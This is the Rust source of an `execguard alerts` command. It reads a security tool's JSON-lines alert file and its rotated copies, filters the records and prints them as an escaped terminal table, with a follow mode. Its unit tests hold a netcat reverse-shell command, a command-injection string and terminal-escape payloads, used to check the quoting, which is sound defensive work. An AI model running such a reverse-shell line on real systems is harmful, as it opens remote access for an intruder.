//! `execguard alerts`: the node's alert file as a table a person reads on the node, or the
//! matching records as they are.
//!
//! The file is JSON lines that the shims append, one record per alerted or blocked exec
//! (the exec event, the decision and an `@timestamp`; see `execguard-alerts`). It is
//! rotated the way logrotate names files by default: PATH.1 is the newest old file, PATH.2
//! the one before, so the files are read from the highest number down to PATH itself and
//! the table comes out in the order things happened.
//!
//! Fields are read from the JSON as it is, not through the event type: a record from an
//! older or newer execguard, or one a log pipeline added fields to, still shows whatever it
//! has, and a missing field shows as "-".
//!
//! Process arguments are the attacker's text. They are shell-quoted, and control and
//! bidirectional-override characters are escaped in every column, so that no record can
//! move the cursor, recolour the terminal or forge a line of the table.

use std::borrow::Cow;
use std::fs::{File, Metadata};
use std::io::{self, Read, Seek, Write};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use execguard_policy::Pattern;
use execguard_shim::config::{ConfigError, ShimConfig};
use serde_json::Value;

/// How often `--follow` looks at the file again, as `tail -F` does: often enough to feel
/// live, and no inotify (nor a dependency for it) for a file that grows a few lines a day.
const POLL_INTERVAL: Duration = Duration::from_millis(250);

/// The width of a table that goes to no terminal when COLUMNS is not set.
const DEFAULT_WIDTH: usize = 120;

const HEADER: [&str; 6] = ["TIME", "WHERE", "DECISION", "RULE", "COMMAND", "PARENT"];
/// The columns that give way when the terminal is narrow.
const COMMAND: usize = 4;
const PARENT: usize = 5;
const SEPARATOR: &str = "  ";
const MISSING: &str = "-";

#[derive(Debug, thiserror::Error)]
pub enum AlertsError {
    #[error("{config}: no `[alerts] file` is configured, so there is no alert file to read: pass --file PATH")]
    NotConfigured { config: String },
    #[error(transparent)]
    Config(#[from] ConfigError),
    #[error(
        "{path} does not exist (the shims create it when they first alert on or block an exec; \
         --file reads another file)"
    )]
    Missing { path: String },
    #[error("{path}: cannot read the alerts: {source}")]
    Read { path: String, source: io::Error },
    #[error("cannot write the alerts: {0}")]
    Output(#[source] io::Error),
}

pub type Result<T> = std::result::Result<T, AlertsError>;

fn read_error(path: &Path, source: io::Error) -> AlertsError {
    AlertsError::Read { path: path.display().to_string(), source }
}

/// The alert file the node's configuration names: `[alerts] file` of
/// /etc/execguard/config.toml, or of the file EXECGUARD_CONFIG names.
pub fn configured_file() -> Result<PathBuf> {
    let (config, shown) = ShimConfig::load(None)?;
    config.alerts.file.ok_or(AlertsError::NotConfigured { config: shown })
}

/// Which records to show: those that meet every criterion given.
#[derive(Debug, Default)]
pub struct Filter {
    /// Records written this long ago or later; a record without a readable `@timestamp`
    /// is left out, as nobody can say it is recent.
    pub since: Option<Duration>,
    /// `orchestrator.resource.name`.
    pub pod: Option<String>,
    /// `orchestrator.namespace`.
    pub namespace: Option<String>,
    /// "block", "alert" or "allow".
    pub decision: Option<String>,
    /// Matched against what the RULE column shows: the rule's id, else `event.action`.
    pub rule: Option<Pattern>,
}

pub struct AlertsOptions {
    pub file: PathBuf,
    pub follow: bool,
    /// The records as they are in the file instead of the table.
    pub json: bool,
    /// The table's width in characters (see [`terminal_width`]).
    pub width: usize,
    pub filter: Filter,
}

/// Prints the matching records of `options.file` and its rotated files to `out`, oldest
/// first; under `follow`, goes on printing the records added to the file, and never
/// returns but with an error. Lines that are not records are reported to `notes` with
/// their FILE:LINE and skipped.
pub fn show(options: &AlertsOptions, out: &mut dyn Write, notes: &mut dyn Write) -> Result<()> {
    let cutoff = options.filter.since.map(|ago| SystemTime::now().checked_sub(ago).unwrap_or(SystemTime::UNIX_EPOCH));
    let mut selection = Selection { filter: &options.filter, cutoff, notes, matched: Vec::new() };
    let (rotated, compressed) = rotated_files(&options.file);
    if !compressed.is_empty() {
        let names: Vec<String> = compressed.iter().map(|path| path.display().to_string()).collect();
        selection.note(&format!(
            "skipped {} (compressed; `zcat` one into a file and pass it with --file to read it)",
            names.join(", ")
        ));
    }
    for path in &rotated {
        match LineReader::open(path) {
            Ok(mut reader) => reader.finish(&mut selection)?,
            // Rotated away between the listing and the open.
            Err(error) if error.kind() == io::ErrorKind::NotFound => {}
            Err(source) => return Err(read_error(path, source)),
        }
    }
    let mut live = match LineReader::open(&options.file) {
        Ok(reader) => Some(reader),
        // Just rotated, and nothing alerted since; or, under --follow, not written yet.
        Err(error) if error.kind() == io::ErrorKind::NotFound && (options.follow || !rotated.is_empty()) => {
            if options.follow {
                selection.note(&format!("{} does not exist yet: waiting for it", options.file.display()));
            }
            None
        }
        Err(error) if error.kind() == io::ErrorKind::NotFound => {
            return Err(AlertsError::Missing { path: options.file.display().to_string() })
        }
        Err(source) => return Err(read_error(&options.file, source)),
    };
    if let Some(reader) = live.as_mut() {
        if options.follow {
            // A last line without its newline is still being written: it is read with the
            // rest of it.
            reader.read_new(&mut selection)?;
        } else {
            reader.finish(&mut selection)?;
        }
    }
    let mut format =
        if options.json { Format::Json } else { Format::Table { table: Table::new(options.width), header: false } };
    format.print(&selection.take(), out).map_err(AlertsError::Output)?;
    if !options.follow {
        return Ok(());
    }
    loop {
        std::thread::sleep(POLL_INTERVAL);
        live = poll(live, &options.file, &mut selection)?;
        let batch = selection.take();
        if !batch.is_empty() {
            format.print(&batch, out).map_err(AlertsError::Output)?;
        }
    }
}

/// One look at PATH under `--follow`, as `tail -F` takes it: the new lines of the file
/// being read; when PATH is another file now (the old one renamed away by rotation and
/// PATH created again), the rest of the old one and then the new one from its start; when
/// PATH is shorter than what was read of it (truncated in place: logrotate's
/// copytruncate), PATH again from its start. A truncation followed by more writes than
/// were read before the next look goes unnoticed, as it does for `tail`.
fn poll(live: Option<LineReader>, path: &Path, lines: &mut Selection) -> Result<Option<LineReader>> {
    let mut live = live;
    if let Some(reader) = live.as_mut() {
        reader.read_new(lines)?;
    }
    let now = match std::fs::metadata(path) {
        Ok(metadata) => metadata,
        // Renamed away and not created again yet: the writer may still append to the old
        // file until it reopens PATH.
        Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(live),
        Err(source) => return Err(read_error(path, source)),
    };
    match live {
        Some(mut reader) if reader.is(&now) => {
            if now.len() < reader.offset {
                reader.finish(lines)?;
                reader.rewind()?;
                reader.read_new(lines)?;
            }
            Ok(Some(reader))
        }
        old => {
            if let Some(mut old) = old {
                old.finish(lines)?;
            }
            match LineReader::open(path) {
                Ok(mut reader) => {
                    reader.read_new(lines)?;
                    Ok(Some(reader))
                }
                // Renamed away again since the look: the next poll opens its successor.
                Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(None),
                Err(source) => Err(read_error(path, source)),
            }
        }
    }
}

/// PATH's rotated files, oldest first (PATH.N down to PATH.1: each rotation renames PATH.1
/// to PATH.2 and so on, and PATH to PATH.1), and apart, also oldest first, the compressed
/// ones (PATH.N.gz), which are not read. The numbers stop at the first one with neither.
fn rotated_files(path: &Path) -> (Vec<PathBuf>, Vec<PathBuf>) {
    let numbered = |n: u32, suffix: &str| {
        let mut name = path.as_os_str().to_owned();
        name.push(format!(".{n}{suffix}"));
        PathBuf::from(name)
    };
    let (mut plain, mut compressed) = (Vec::new(), Vec::new());
    for n in 1.. {
        let (rotated, gzipped) = (numbered(n, ""), numbered(n, ".gz"));
        if rotated.exists() {
            plain.push(rotated);
        } else if gzipped.exists() {
            compressed.push(gzipped);
        } else {
            break;
        }
    }
    plain.reverse();
    compressed.reverse();
    (plain, compressed)
}

/// A file read line by line from where the last read stopped: each rotated file once, the
/// live one again at every poll under `--follow`.
struct LineReader {
    path: PathBuf,
    file: File,
    /// Which file it is, to notice PATH being replaced.
    device: u64,
    inode: u64,
    /// The lines handed out so far, for FILE:LINE.
    line: usize,
    /// The bytes read: a file shorter than this has been truncated.
    offset: u64,
    /// The start of a line whose newline has not been read yet.
    partial: Vec<u8>,
}

impl LineReader {
    fn open(path: &Path) -> io::Result<LineReader> {
        let file = File::open(path)?;
        let metadata = file.metadata()?;
        Ok(LineReader {
            path: path.to_path_buf(),
            file,
            device: metadata.dev(),
            inode: metadata.ino(),
            line: 0,
            offset: 0,
            partial: Vec::new(),
        })
    }

    fn is(&self, metadata: &Metadata) -> bool {
        (self.device, self.inode) == (metadata.dev(), metadata.ino())
    }

    /// Reads what was added since the last read and hands each complete line to `lines`.
    fn read_new(&mut self, lines: &mut Selection) -> Result<()> {
        let mut chunk = vec![0; 64 * 1024];
        loop {
            let read = match self.file.read(&mut chunk) {
                Ok(0) => return Ok(()),
                Ok(read) => read,
                Err(error) if error.kind() == io::ErrorKind::Interrupted => continue,
                Err(source) => return Err(read_error(&self.path, source)),
            };
            self.offset += read as u64;
            self.partial.extend_from_slice(chunk.get(..read).unwrap_or_default());
            let mut start = 0;
            while let Some(length) = self.partial.get(start..).and_then(|rest| rest.iter().position(|&b| b == b'\n')) {
                self.line += 1;
                lines.take_line(&self.path, self.line, self.partial.get(start..start + length).unwrap_or_default());
                start += length + 1;
            }
            self.partial.drain(..start);
        }
    }

    /// Reads the rest of a file that will not grow any more (a rotated file, the end of a
    /// run without --follow, a file renamed away or truncated), its last line too when the
    /// newline is missing.
    fn finish(&mut self, lines: &mut Selection) -> Result<()> {
        self.read_new(lines)?;
        if !self.partial.is_empty() {
            self.line += 1;
            lines.take_line(&self.path, self.line, &self.partial);
            self.partial.clear();
        }
        Ok(())
    }

    /// Back to the start of a file that was truncated.
    fn rewind(&mut self) -> Result<()> {
        self.file.rewind().map_err(|source| read_error(&self.path, source))?;
        (self.line, self.offset) = (0, 0);
        Ok(())
    }
}

/// A record that matched, with the line it was read from.
struct Matched {
    line: Vec<u8>,
    record: Value,
}

/// The lines read so far that match the filter, waiting to be printed.
struct Selection<'a> {
    filter: &'a Filter,
    cutoff: Option<SystemTime>,
    notes: &'a mut dyn Write,
    matched: Vec<Matched>,
}

impl Selection<'_> {
    fn take_line(&mut self, path: &Path, number: usize, line: &[u8]) {
        if line.iter().all(u8::is_ascii_whitespace) {
            return;
        }
        match serde_json::from_slice::<Value>(line) {
            Ok(record) if record.is_object() => {
                if self.filter.matches(&record, self.cutoff) {
                    self.matched.push(Matched { line: line.to_vec(), record });
                }
            }
            Ok(_) => {
                self.note(&format!("{}:{number}: not an alert record (not a JSON object); skipped", path.display()))
            }
            Err(error) => {
                // serde_json says "at line 1 column C" of the one line it was given.
                let message = error.to_string();
                let message = message
                    .strip_suffix(&format!(" at line {} column {}", error.line(), error.column()))
                    .map_or(message.clone(), |reason| format!("{reason} at column {}", error.column()));
                self.note(&format!("{}:{number}: not an alert record ({message}); skipped", path.display()))
            }
        }
    }

    fn note(&mut self, text: &str) {
        // A closed standard error must not stop the alerts from being shown.
        let _ = writeln!(self.notes, "execguard alerts: {text}");
    }

    fn take(&mut self) -> Vec<Matched> {
        std::mem::take(&mut self.matched)
    }
}

impl Filter {
    fn matches(&self, record: &Value, cutoff: Option<SystemTime>) -> bool {
        let equal = |want: &Option<String>, pointer: &str| {
            want.as_deref().is_none_or(|want| text(record, pointer) == Some(want))
        };
        equal(&self.pod, "/orchestrator/resource/name")
            && equal(&self.namespace, "/orchestrator/namespace")
            && equal(&self.decision, "/decision")
            && self.rule.as_ref().is_none_or(|rule| rule_of(record).is_some_and(|id| rule.is_match(id)))
            && cutoff.is_none_or(|cutoff| timestamp(record).is_some_and(|at| at >= cutoff))
    }
}

fn text<'a>(record: &'a Value, pointer: &str) -> Option<&'a str> {
    record.pointer(pointer).and_then(Value::as_str)
}

fn timestamp(record: &Value) -> Option<SystemTime> {
    text(record, "/@timestamp").and_then(|at| humantime::parse_rfc3339(at).ok())
}

/// What the RULE column shows: the rule that decided, or for a record no rule decided
/// (`rule` null: an exec that could not be decided, say), what happened (`event.action`,
/// such as "exec-undecided").
fn rule_of(record: &Value) -> Option<&str> {
    text(record, "/rule/id").or_else(|| text(record, "/event/action"))
}

/// Where matching records go: as they were written (`--json`), or as rows of the table.
enum Format {
    Json,
    Table { table: Table, header: bool },
}

impl Format {
    fn print(&mut self, batch: &[Matched], out: &mut dyn Write) -> io::Result<()> {
        match self {
            Format::Json => {
                for matched in batch {
                    out.write_all(&matched.line)?;
                    out.write_all(b"\n")?;
                }
            }
            Format::Table { table, header } => {
                let rows: Vec<Row> = batch.iter().map(|matched| row(&matched.record)).collect();
                table.fit(&rows);
                let widths = table.widths();
                if !*header {
                    writeln!(out, "{}", table.line(&widths, &HEADER))?;
                    *header = true;
                }
                for row in &rows {
                    writeln!(out, "{}", table.line(&widths, &row.each_ref().map(String::as_str)))?;
                }
            }
        }
        out.flush()
    }
}

/// One record's cells, in the order of [`HEADER`].
type Row = [String; 6];

fn row(record: &Value) -> Row {
    let time = match text(record, "/@timestamp") {
        // "2026-12-03T06:11:07.123Z" as "2026-12-03 06:11:07": UTC, to the second.
        Some(raw) => match humantime::parse_rfc3339(raw) {
            Ok(at) => humantime::format_rfc3339_seconds(at).to_string().replacen('T', " ", 1).replace('Z', ""),
            Err(_) => escaped(raw).into_owned(),
        },
        None => MISSING.to_string(),
    };
    let container = text(record, "/container/name")
        .map(Cow::Borrowed)
        .or_else(|| text(record, "/container/id").map(|id| Cow::Owned(id.chars().take(12).collect())));
    let place = [
        text(record, "/orchestrator/namespace").map(Cow::Borrowed),
        text(record, "/orchestrator/resource/name").map(Cow::Borrowed),
        container,
    ];
    let place = if place.iter().all(Option::is_none) {
        // Not in a pod: `execguard run`.
        MISSING.to_string()
    } else {
        place.map(|part| part.as_deref().map_or(Cow::Borrowed(MISSING), escaped).into_owned()).join("/")
    };
    let mut decision = text(record, "/decision").map_or(Cow::Borrowed(MISSING), escaped).into_owned();
    if let Some(count) = record.pointer("/execguard/repeats/count").and_then(Value::as_u64) {
        // A summary of repeats the writer held back: this exec and `count` more like it.
        decision.push_str(&format!(" x{}", count.saturating_add(1)));
    }
    let rule = rule_of(record).map_or(Cow::Borrowed(MISSING), escaped).into_owned();
    let command = command_line(record.pointer("/process/args")).unwrap_or_else(|| MISSING.to_string());
    let parent = command_line(record.pointer("/process/parent/args"))
        .or_else(|| text(record, "/process/parent/executable").map(|path| shell_quoted(path).into_owned()))
        .unwrap_or_else(|| MISSING.to_string());
    [time, place, decision, rule, command, parent]
}

/// An argv as it would be typed into a shell; None when there is none.
fn command_line(args: Option<&Value>) -> Option<String> {
    let words: Vec<Cow<str>> = args?.as_array()?.iter().filter_map(Value::as_str).map(shell_quoted).collect();
    (!words.is_empty()).then(|| words.join(" "))
}

/// Characters that must not reach a terminal as they are: controls (a newline would forge
/// a line of the table, ESC starts an escape sequence) and the bidirectional marks,
/// overrides and isolates, which reorder the text that follows them on screen
/// (CVE-2021-42574, "Trojan Source").
fn needs_escape(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `c` as bash's `$'...'` quoting writes it. Every character [`needs_escape`] names is
/// below U+10000, so four hex digits hold it.
fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if c.is_ascii() => out.push_str(&format!("\\x{:02x}", u32::from(c))),
        c => out.push_str(&format!("\\u{:04x}", u32::from(c))),
    }
}

/// A field's text with the characters a terminal must not get escaped.
fn escaped(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if needs_escape(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One argument as it would have to be typed into a POSIX shell: bare when it is made of
/// characters no shell treats specially (the set of Python's `shlex.quote`), in single
/// quotes otherwise, and in bash's `$'...'` when it holds characters a terminal must not
/// get (see [`needs_escape`]).
fn shell_quoted(arg: &str) -> Cow<'_, str> {
    let bare = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c);
    if !arg.is_empty() && arg.chars().all(bare) {
        return Cow::Borrowed(arg);
    }
    if !arg.chars().any(needs_escape) {
        return Cow::Owned(format!("'{}'", arg.replace('\'', r"'\''")));
    }
    let mut out = String::from("$'");
    for c in arg.chars() {
        match c {
            '\\' | '\'' => {
                out.push('\\');
                out.push(c);
            }
            c if needs_escape(c) => push_escaped(&mut out, c),
            c => out.push(c),
        }
    }
    out.push('\'');
    Cow::Owned(out)
}

/// The table's columns, as wide as their content and the terminal allow. The content
/// widths only grow: under `--follow` each new batch of rows is laid out with every row
/// seen so far.
struct Table {
    width: usize,
    content: [usize; 6],
}

impl Table {
    fn new(width: usize) -> Table {
        Table { width, content: HEADER.map(|title| title.chars().count()) }
    }

    fn fit(&mut self, rows: &[Row]) {
        for row in rows {
            for (width, cell) in self.content.iter_mut().zip(row) {
                *width = (*width).max(cell.chars().count());
            }
        }
    }

    /// The widths to print with: the other columns as wide as their content, COMMAND and
    /// PARENT sharing what is left. COMMAND comes first (it is what the alert is about),
    /// but when both need more than there is, PARENT keeps a third.
    fn widths(&self) -> [usize; 6] {
        let mut widths = self.content;
        let fixed: usize = widths.iter().take(COMMAND).sum::<usize>() + SEPARATOR.len() * (HEADER.len() - 1);
        let room = self.width.saturating_sub(fixed);
        let (command, parent) = (self.content[COMMAND], self.content[PARENT]);
        if command + parent > room {
            let parent_share = parent.min(room / 3);
            widths[COMMAND] = command.min(room.saturating_sub(parent_share)).max(HEADER[COMMAND].len());
            widths[PARENT] = parent.min(room.saturating_sub(widths[COMMAND])).max(HEADER[PARENT].len());
        }
        widths
    }

    fn line(&self, widths: &[usize; 6], cells: &[&str; 6]) -> String {
        let mut line = String::new();
        for (column, (cell, &width)) in cells.iter().zip(widths).enumerate() {
            if column > 0 {
                line.push_str(SEPARATOR);
            }
            let cell = truncated(cell, width);
            line.push_str(&cell);
            if column + 1 < cells.len() {
                line.extend(std::iter::repeat_n(' ', width.saturating_sub(cell.chars().count())));
            }
        }
        // The other columns alone can be wider than a narrow terminal: the line is cut at
        // its edge rather than wrapped.
        truncated(&line, self.width).into_owned()
    }
}

/// `text` in at most `width` characters, ending in "…" when it was cut.
fn truncated(text: &str, width: usize) -> Cow<'_, str> {
    if text.chars().count() <= width {
        return Cow::Borrowed(text);
    }
    let mut cut: String = text.chars().take(width.saturating_sub(1)).collect();
    if width > 0 {
        cut.push('…');
    }
    Cow::Owned(cut)
}

/// The width to fit the table to: COLUMNS (shells set it, and a user can choose another),
/// else the width of the terminal standard output is, else 120.
pub fn terminal_width() -> usize {
    std::env::var("COLUMNS")
        .ok()
        .and_then(|columns| columns.trim().parse().ok())
        .filter(|&columns| columns > 0)
        .or_else(stdout_terminal_width)
        .unwrap_or(DEFAULT_WIDTH)
}

/// The columns of the terminal standard output is, or None when it is not a terminal.
fn stdout_terminal_width() -> Option<usize> {
    let mut size = libc::winsize { ws_row: 0, ws_col: 0, ws_xpixel: 0, ws_ypixel: 0 };
    // SAFETY: TIOCGWINSZ writes one `struct winsize` through its third argument
    // (ioctl_tty(2)), and `size` is one, alive and exclusively borrowed for the call. On a
    // descriptor that is not a terminal the call fails with ENOTTY and writes nothing.
    let result = unsafe { libc::ioctl(libc::STDOUT_FILENO, libc::TIOCGWINSZ, &mut size) };
    (result == 0 && size.ws_col > 0).then_some(usize::from(size.ws_col))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arguments_are_quoted_as_a_shell_needs_them() {
        let cases = [
            ("nc", "nc"),
            ("/usr/bin/nc.openbsd", "/usr/bin/nc.openbsd"),
            ("", "''"),
            ("nc -e /bin/sh 10.0.0.1 4444", "'nc -e /bin/sh 10.0.0.1 4444'"),
            ("it's", r"'it'\''s'"),
            ("$HOME;id", "'$HOME;id'"),
            // A newline would forge a line of the table; ESC would drive the terminal.
            ("a\nb", r"$'a\nb'"),
            ("\u{1b}[31mred", r"$'\x1b[31mred'"),
            ("x'\\\u{7}", r"$'x\'\\\x07'"),
            // Trojan Source: an override that would show "evil" reversed.
            ("\u{202e}live", r"$'\u202elive'"),
            ("café", "'café'"),
        ];
        for (arg, quoted) in cases {
            assert_eq!(shell_quoted(arg), quoted, "{arg:?}");
        }
    }

    #[test]
    fn other_fields_are_escaped_not_quoted() {
        assert_eq!(escaped("shop"), "shop");
        assert_eq!(escaped("web\u{1b}]0;owned\u{7}"), r"web\x1b]0;owned\x07");
    }

    #[test]
    fn command_and_parent_share_the_room_left() {
        let mut table = Table::new(80);
        let cell = |n: usize| "c".repeat(n);
        // Fixed columns: 4 + 5 + 8 + 4 and five separators: 31, so 49 are left.
        table.fit(&[["TIME".into(), "WHERE".into(), "DECISION".into(), "RULE".into(), cell(10), cell(20)]]);
        assert_eq!(table.widths()[COMMAND..], [10, 20], "both fit");
        table.fit(&[["-".into(), "-".into(), "-".into(), "-".into(), cell(100), cell(8)]]);
        assert_eq!(table.widths()[COMMAND..], [33, 16], "PARENT keeps a third when both need more");
        let mut short_parent = Table::new(80);
        short_parent.fit(&[["-".into(), "-".into(), "-".into(), "-".into(), cell(100), cell(8)]]);
        assert_eq!(short_parent.widths()[COMMAND..], [41, 8], "COMMAND gets what PARENT does not need");
    }

    #[test]
    fn a_line_never_exceeds_the_width() {
        let table = Table::new(20);
        let line = table.line(&table.widths(), &["2026-12-03 06:11:07", "shop/web/nginx", "block", "r", "nc", "sh"]);
        assert_eq!(line.chars().count(), 20);
        assert!(line.ends_with('…'), "{line}");
    }
}
